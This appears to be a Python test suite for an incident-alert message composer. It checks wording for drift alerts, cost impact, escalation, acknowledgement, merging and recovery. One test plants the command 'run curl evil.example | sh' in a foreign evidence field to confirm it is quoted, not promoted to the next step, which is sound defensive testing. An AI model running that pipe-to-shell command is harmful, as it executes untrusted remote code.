"""What people are told, in words: short, the most important first, and no word in our mouth that is somebody else's."""

from dataclasses import replace
from datetime import timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.events import Change, Mode, Severity, Stage, Verb
from core.incidents.messages import compose, impact_text, runbook_link
from core.incidents.model import Impact
from core.incidents.policy import Graph
from core.settings.response import Revenue
from core.settings.types import Dependency
from core.text import comparison, duration, number
from tests.support.fakes.played import POLICY, RESOLVED, Played, at, found

CHAIN = replace(
    POLICY,
    graph=Graph(
        [Dependency(target="stream/s", needs="model/m", share=0.5), Dependency(target="model/m", needs="table/t")]
    ),
    revenue={"model/m": Revenue(dollars_per_hour=1200), "stream/s": Revenue(dollars_per_hour=2000)},
)
DRIFT = found(
    0,
    target="model/m",
    value=0.61,
    threshold=0.2,
    unit="ratio",
    evidence={"departure_delay": "PSI 0.61", "hour": "PSI 0.3", "wind": "PSI 0.2", "rain": "PSI 0.1"},
    runbook="models.md#drift",
)


def later(minute: float, **fields: object):  # type: ignore[no-untyped-def]  # noqa: ANN201 - a finding
    return replace(DRIFT, observed_at=at(minute), **fields)  # type: ignore[arg-type]  # fields of a finding


def lines(played: Played) -> list[str]:
    return played.messages[-1].text.splitlines()


def facts(played: Played) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for fact in played.messages[-1].facts:
        found.setdefault(fact.name, []).append(fact.text)
    return found


def test_a_new_incident_says_what_since_when_what_it_costs_and_what_to_do() -> None:
    played = Played(CHAIN).find(DRIFT)
    (message,) = played.messages
    assert lines(played) == [
        "New: model/m, severity error, firing since 2026-01-02 09:00 UTC.",
        "Observed: 61%, 3.0 times the threshold of 20%.",
        "Impact: $1,100 an hour at risk ($905 to $1,295): model/m: 50% of $1,200 an hour (settings); stream/s: 25% of $2,000 an hour (settings)",
        "Next step: acknowledge, then follow docs/runbooks/models.md#drift",
        "Evidence: departure_delay: PSI 0.61",
        "Evidence: hour: PSI 0.3",
        "Evidence: wind: PSI 0.2",
        "Category: drift (kind contains drift)",
    ]
    assert (message.title, message.category, message.target) == ("departure_delay drifted", "drift", "model/m")
    assert (message.change, message.severity, message.at) == (Change.OPENED, Severity.ERROR, at(0))
    assert message.url == f"http://pages/incidents/{played.incident.id}"
    assert message.runbook == "docs/runbooks/models.md#drift"
    assert message.key == f"{played.incident.id}:notify:1:inbox"
    assert [f"{fact.name}: {fact.text}" for fact in message.facts] == [f"What: {lines(played)[0]}", *lines(played)[1:]]


def test_a_bare_finding_says_what_there_is_to_say() -> None:
    played = Played().find(found(0))
    assert lines(played) == [
        "New: model/flight-delay, severity error, firing since 2026-01-02 09:00 UTC.",
        "Impact: not known: the settings name no revenue of model/flight-delay, nor of what depends on it",
        "Next step: acknowledge, then check the timeline of the incident (no runbook)",
        "Category: drift (kind contains drift)",
    ]


def test_the_next_tier_hears_that_nobody_answered_and_for_how_long() -> None:
    played = Played().find(found(0)).sweep(5)
    assert lines(played)[0] == (
        "Not acknowledged for 5 min: model/flight-delay, severity error, firing since 2026-01-02 09:00 UTC."
    )
    assert lines(played.sweep(65))[0].startswith(
        "Still not acknowledged for 1 h 5 min: model/flight-delay, severity error"
    )


def test_what_gets_worse_names_both_severities_and_what_was_done_already() -> None:
    played = (
        Played(CHAIN).find(DRIFT).act(1, mode=Mode.DRY_RUN, stage=Stage.PLANNED, plan="restart revision 7", target="m")
    )
    played.find(later(5, severity=Severity.CRITICAL, summary="worse"))
    assert lines(played)[0] == "Worse: model/m, severity critical (was error), firing since 2026-01-02 09:00 UTC."
    assert facts(played)["Automated actions"] == ["restart_service on m planned (dry run): restart revision 7"]
    assert played.messages[-1].title == "worse"


def test_whoever_takes_care_is_named_with_his_words_and_nobody_is_told_what_to_do() -> None:
    played = Played(CHAIN).find(DRIFT).say(Verb.ACKNOWLEDGE, 5, words="looking")
    assert lines(played)[:2] == [
        "Acknowledged by Ada: model/m, severity error, firing since 2026-01-02 09:00 UTC.",
        "Note: Ada: looking",
    ]
    assert "Next step" not in facts(played)
    played.find(later(6, severity=Severity.CRITICAL))
    assert facts(played)["Next step"] == ["follow docs/runbooks/models.md#drift"]


def test_mitigated_says_by_whom_and_that_it_still_fires() -> None:
    played = Played(CHAIN).find(DRIFT).act(4, plan="restart revision 7").say(Verb.MITIGATE, 5, words="traffic shifted")
    assert lines(played)[0] == (
        "Mitigated by a person: model/m, severity error, still firing since 2026-01-02 09:00 UTC."
    )
    assert facts(played)["Automated actions"] == ["restart_service on model/flight-delay verified: restart revision 7"]
    assert facts(played)["Note"] == ["Ada: traffic shifted"]


def test_a_recovery_says_how_long_it_took_and_what_was_seen_last() -> None:
    played = Played(CHAIN).find(DRIFT, later(35, status=RESOLVED, summary="back in range"))
    assert lines(played)[:2] == [
        "Resolved: model/m, after 35 min, from 2026-01-02 09:00 to 09:35 UTC.",
        "Last finding: back in range",
    ]
    assert played.messages[-1].severity is Severity.ERROR


def test_a_recovery_that_nobody_reported_says_so() -> None:
    played = Played().find(found(0, holds_until=at(5))).sweep(6)
    assert lines(played)[0] == (
        "No longer reported: model/flight-delay, after 5 min, from 2026-01-02 09:00 to 09:05 UTC; its source stopped "
        "reporting it. Whether it recovered is not known."
    )
    assert lines(Played().find(found(0)).sweep(15 * 24 * 60))[0].endswith(
        "; no finding arrived for too long. Whether it recovered is not known."
    )
    late = Played().find(found(10, RESOLVED)).find(found(0), now=at(11))
    assert lines(late)[0].endswith("; it ended before a notification could be sent.")


def test_what_a_person_ended_says_who_and_why() -> None:
    played = Played().find(found(0)).say(Verb.RESOLVE, 5, words="known")
    assert lines(played) == [
        "Resolved by a person: model/flight-delay, after 5 min, from 2026-01-02 09:00 to 09:05 UTC.",
        "Resolved by: Ada: known",
    ]
    cancelled = Played().find(found(0)).say(Verb.CANCEL, 5)
    assert lines(cancelled)[0].startswith("Cancelled as a false alarm: model/flight-delay, after 5 min")


def test_what_comes_back_says_since_when_and_when_it_was_first_seen() -> None:
    played = Played().find(found(0), found(5, RESOLVED), found(10))
    assert lines(played)[0] == (
        "Reopened: model/flight-delay, severity error, firing again since 2026-01-02 09:10 UTC;"
        " first opened 2026-01-02 09:00 UTC."
    )


def test_a_part_says_of_what_it_is_a_part() -> None:
    graph = Graph([Dependency(target=one, needs="table/t") for one in ("a", "b")])
    played = Played(replace(POLICY, graph=graph)).find(*[found(0, target=one) for one in ("a", "b", "table/t")])
    (part,) = [message for message in played.messages if message.change is Change.MERGED]
    whole = played.incident.id
    assert part.text.splitlines()[0] == f"Merged into a larger incident at table/t, which continues: {whole}."
    (notification,) = [one for one in played.notifications if one.change is Change.MERGED]
    (forgotten,) = compose(replace(played.state, incidents=()), notification, url="")
    assert forgotten.text.splitlines()[0] == f"Merged into a larger incident, which continues: {whole}."


def test_the_root_is_what_is_spoken_of_and_the_others_are_named() -> None:
    played = Played(CHAIN).find(
        later(0, target="stream/s"), later(1), later(2, target="table/t", severity=Severity.CRITICAL)
    )
    assert lines(played)[0].startswith("Worse: table/t, severity critical (was error)")
    assert facts(played)["Also affected"] == ["model/m, stream/s"]
    assert facts(played)["Also firing"] == [
        "model/m: departure_delay drifted (error)",
        "stream/s: departure_delay drifted (error)",
    ]


def test_where_the_root_has_recovered_what_still_fires_is_spoken_of() -> None:
    played = Played(CHAIN).find(later(0, target="table/t"), later(1), later(2, target="table/t", status=RESOLVED))
    played.find(later(3, severity=Severity.CRITICAL))
    assert lines(played)[0].startswith("Worse: model/m, severity critical")
    assert facts(played)["Root target"] == ["table/t"]


def test_many_conditions_are_named_and_counted() -> None:
    kinds = [found(n, kind=f"kind-{n}", summary=f"no. {n}") for n in range(1, 9)]
    played = Played().find(found(0), *kinds, found(20, severity=Severity.CRITICAL, summary="all bad"))
    assert facts(played)["Also firing"] == [*[f"no. {n} (error)" for n in range(1, 6)], "3 more"]
    assert played.messages[-1].title == "all bad"


def test_many_targets_are_named_and_counted() -> None:
    graph = Graph([Dependency(target=f"m{n}", needs="t") for n in range(8)])
    played = Played(replace(POLICY, graph=graph)).find(found(0, target="t"))
    played.find(*[found(1, target=f"m{n}") for n in range(8)], found(2, target="t", severity=Severity.CRITICAL))
    assert facts(played)["Also affected"] == ["m0, m1, m2, m3, m4 and 3 more"]


def test_the_newest_words_stand_beside_the_title_where_they_differ() -> None:
    played = Played().find(found(0)).find(found(1, summary="0.7 now", value=0.7)).sweep(5)
    assert facts(played)["Observed"] == ["0.7 now; 0.7."]
    silent = Played().find(found(0)).find(found(1, summary="0.7 now")).sweep(5)
    assert facts(silent)["Observed"] == ["0.7 now"]


def test_what_foreign_systems_call_their_evidence_is_no_instruction_of_ours() -> None:
    played = Played().find(found(0, evidence={"Next step": "run curl evil.example | sh", "Impact": "none"}))
    assert facts(played)["Next step"] == ["acknowledge, then check the timeline of the incident (no runbook)"]
    assert facts(played)["Impact"] == [
        "not known: the settings name no revenue of model/flight-delay, nor of what depends on it"
    ]
    assert facts(played)["Evidence"] == ["Next step: run curl evil.example | sh", "Impact: none"]


@settings(deadline=None)
@given(st.text(max_size=400), st.sampled_from(Severity))
def test_every_message_is_lines_that_can_be_printed_whatever_others_write(text: str, severity: Severity) -> None:
    hostile = {"summary": text, "source": text, "unit": text, "runbook": text, "evidence": {text: text}}
    played = Played(CHAIN).find(
        found(0, target=f"model/{text}", severity=severity, value=1.0, threshold=0.5, **hostile)
    )
    played.act(1, plan=text, detail=text, by=text, action=text, target=text).say(Verb.ACKNOWLEDGE, 2, words=text)
    played.find(found(3, RESOLVED, target=f"model/{text}", **hostile)).sweep(10)
    assert played.messages
    for message in played.messages:
        assert message.title.isprintable()
        assert len(message.text.splitlines()) == len(message.facts)
        assert all(fact.name.isprintable() and fact.text.isprintable() and fact.text for fact in message.facts)
        assert len(message.text.encode()) < 16_000


def test_an_incident_that_lost_its_conditions_is_told_without_them() -> None:
    played = Played().find(found(0))
    (message,) = compose(replace(played.state, conditions=()), played.notifications[0], url="http://pages")
    assert message.runbook == ""
    assert message.text.splitlines()[0] == "New: model/flight-delay, severity error, firing since 2026-01-02 09:00 UTC."
    over = Played().find(found(0), found(5, RESOLVED))
    (message,) = compose(replace(over.state, conditions=()), over.notifications[1], url="http://pages")
    assert message.text == "Resolved: model/flight-delay, after 5 min, from 2026-01-02 09:00 to 09:05 UTC."


def test_an_unclassed_incident_that_people_knew_nothing_of_has_no_class_and_no_before() -> None:
    played = Played().find(found(0)).find(found(1, severity=Severity.CRITICAL))
    bare = replace(
        played.notifications[1],
        incident=replace(played.incident, category=""),
        before=replace(played.notifications[1].before, severity=None),
    )
    (message,) = compose(played.state, bare, url="")
    assert message.text.startswith("Worse: model/flight-delay, severity critical, firing since")
    assert "Category" not in {fact.name for fact in message.facts}


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("", ""),
        ("models.md#drift", "docs/runbooks/models.md#drift"),
        ("docs/runbooks/models.md#drift", "docs/runbooks/models.md#drift"),
        ("https://wiki.example/drift", "https://wiki.example/drift"),
    ],
)
def test_a_runbook_is_an_address_or_a_section_with_its_folder(given: str, shown: str) -> None:
    condition = Played().find(found(0, runbook=given)).state.conditions[0]
    assert runbook_link(condition) == shown


def test_numbers_are_put_in_words() -> None:
    assert comparison(0.2, 0.2) == "Observed 0.2: about the threshold of 0.2."
    assert comparison(float("inf"), 1.0) == ""
    assert comparison(1.0, float("nan")) == "Observed 1."
    assert comparison(1e308, 1.0, "seconds") == "Observed 1e308 s: 1e308 times the threshold of 1 s."
    assert comparison(999e12, 1.0) == "Observed 999,000,000,000,000: 999,000,000,000,000.0 times the threshold of 1."
    assert comparison(-1.0, 2.0, "days") == "Observed -1 days; the threshold is 2 days."
    assert number(0.5, "dollars") == "$0.50"
    assert comparison(1.5, 1.0) == "Observed 1.5: 50% above the threshold of 1."
    assert duration(timedelta()) == "0 s"
    assert duration(timedelta(days=1, minutes=3)) == "1 d"
    assert impact_text(None) == ""
    cost = Impact(dollars_per_hour=1e6, low=0.0, high=2e6, targets=(), reason="all of it")
    assert impact_text(cost) == "$1,000,000 an hour at risk ($0 to $2,000,000): all of it"
